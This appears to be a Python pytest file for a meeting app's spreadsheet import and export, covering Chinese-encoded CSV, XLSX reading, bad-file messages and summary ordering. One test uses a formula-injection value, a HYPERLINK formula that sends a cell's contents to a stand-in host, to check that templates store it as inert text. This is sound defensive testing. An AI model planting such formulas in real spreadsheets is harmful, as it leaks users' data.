import pytest

from meeting import spreadsheets
from meeting.errors import Invalid
from tests.helpers import REPORTER_ROWS, csv_bytes, xlsx_bytes

EXPECTED = [[str(c) for c in row] for row in REPORTER_ROWS]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_csv_in_every_chinese_encoding_reads_the_same(encoding):
    assert spreadsheets.read_rows(csv_bytes(REPORTER_ROWS, encoding)) == EXPECTED


def test_xlsx_reads_the_same():
    assert spreadsheets.read_rows(xlsx_bytes(REPORTER_ROWS)) == EXPECTED


def test_semicolon_and_tab_separated_csv():
    text = "姓名;职务\n张三;主任\n".encode()
    assert spreadsheets.read_rows(text) == [["姓名", "职务"], ["张三", "主任"]]
    text = "姓名\t职务\n张三\t主任\n".encode("gbk")
    assert spreadsheets.read_rows(text) == [["姓名", "职务"], ["张三", "主任"]]


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"", "empty"),
        (b"\xd0\xcf\x11\xe0rest-of-an-old-xls", ".xls"),
        (b"PK\x03\x04not really a zip", "Excel"),
        (b"\x00\x01\x02binary", "text"),
        (b"\xff\xfe\xfd\x80\x81", "encoding"),
        (b"x" * (spreadsheets.MAX_BYTES + 1), "5 MB"),
    ],
)
def test_bad_files_get_a_clear_message(data, fragment):
    with pytest.raises(Invalid, match=fragment.replace(".", r"\.")):
        spreadsheets.read_rows(data)


def test_the_import_template_never_holds_a_live_formula():
    import io

    from openpyxl import load_workbook

    from meeting.spreadsheets import template_xlsx

    data = template_xlsx(
        [("姓名", "张三", 8, ()), ('=HYPERLINK("http://x.test/?"&A2,"x")', "=1+1", 8, ())]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [sheet.cell(row=r, column=c) for r in (1, 2) for c in (1, 2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert sheet.cell(row=1, column=2).value.startswith("=HYPERLINK")


def test_the_summary_lists_unranked_results_in_reporter_order(app):
    """Ranked rows by rank; the rest (not scored, void) in 述职 order, on every surface,
    since the page, the PDF and the Excel file all print exports.summary_rows."""
    from meeting import exports

    names = ["郑一", "王二", "李三", "张四"]  # 述职 order, not character code order
    data = {
        "categories": [],
        "assessment_name": "",
        "numeric": True,
        "component_names": [],
        "ranking": [],
        "reporters": [
            {"id": i, "name": name, "unit": "", "title": "", "status": "pending"}
            for i, name in enumerate(names, start=1)
        ],
    }
    with app.test_request_context():
        _, rows = exports.summary_rows(data)
    assert [row[1] for row in rows] == names
